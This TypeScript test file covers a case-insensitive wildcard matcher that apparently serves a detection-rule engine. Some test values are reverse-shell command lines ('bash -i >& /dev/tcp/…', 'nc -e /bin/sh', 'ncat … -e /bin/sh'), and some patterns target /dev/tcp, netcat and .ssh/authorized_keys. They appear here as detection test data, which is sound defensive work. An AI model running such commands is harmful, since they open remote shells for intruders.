import { compileStringPattern, matchPattern } from "./wildcard";

function matches(
  value: string,
  pattern: string,
  operator: "equals" | "contains" | "startswith" | "endswith" = "equals",
) {
  return matchPattern(value.toLowerCase(), compileStringPattern(pattern, operator));
}

describe("wildcard - plain values", () => {
  test("exact match is case-insensitive", () => {
    expect(matches("/usr/bin/BASH", "/usr/bin/bash")).toBe(true);
    expect(matches("/usr/bin/bash2", "/usr/bin/bash")).toBe(false);
  });

  test("simple shapes compile to string operations, not globs", () => {
    expect(compileStringPattern("/tmp/*", "equals").kind).toBe("prefix");
    expect(compileStringPattern("*/nc", "equals").kind).toBe("suffix");
    expect(compileStringPattern("*-e *", "equals").kind).toBe("contains");
    expect(compileStringPattern("*", "equals").kind).toBe("any");
    expect(compileStringPattern("a*b", "equals").kind).toBe("glob");
  });

  test("* matches any run, ? exactly one character", () => {
    expect(matches("bash -i >& /dev/tcp/10.0.0.1/4444", "bash*/dev/tcp/*")).toBe(true);
    expect(matches("/usr/bin/python3", "/usr/bin/python?")).toBe(true);
    expect(matches("/usr/bin/python3.11", "/usr/bin/python?")).toBe(false);
    expect(matches("/usr/bin/python", "/usr/bin/python?")).toBe(false);
    expect(matches("abc", "a?c")).toBe(true);
    expect(matches("ab", "a*b*")).toBe(true);
    expect(matches("aXbYc", "*a*b*c")).toBe(true);
    expect(matches("aXbYcZ", "*a*b*c")).toBe(false);
    expect(matches("aba", "ab*ba")).toBe(false);
    expect(matches("abba", "ab*ba")).toBe(true);
  });

  test("escapes make * and ? literal; a lone backslash stays", () => {
    expect(matches("what*", "what\\*")).toBe(true);
    expect(matches("whatever", "what\\*")).toBe(false);
    expect(matches("is it?", "is it\\?")).toBe(true);
    expect(matches("c:\\windows", "c:\\windows")).toBe(true);
    expect(matches("a\\b", "a\\\\b")).toBe(true);
    // \\* is a backslash followed by a wildcard.
    expect(matches("dir\\anything", "dir\\\\*")).toBe(true);
  });

  test("operators add implicit wildcards and keep inner ones", () => {
    expect(matches("xx /dev/tcp/ yy", "/dev/tcp/", "contains")).toBe(true);
    expect(matches("/tmp/x", "/tmp/", "startswith")).toBe(true);
    expect(matches("/home/u/.ssh/authorized_keys", "/.ssh/authorized_keys", "endswith")).toBe(true);
    expect(matches("nc -e /bin/sh 1.2.3.4", "nc * -e", "contains")).toBe(false);
    expect(matches("ncat 1.2.3.4 -e /bin/sh", "nc* -e ", "contains")).toBe(true);
  });

  test("a pathological glob stays fast", () => {
    const value = "a".repeat(20000);
    const started = process.hrtime.bigint();
    expect(matches(value, "*a*a*a*a*a*a*a*a*b")).toBe(false);
    expect(Number(process.hrtime.bigint() - started) / 1e6).toBeLessThan(500);
  });
});
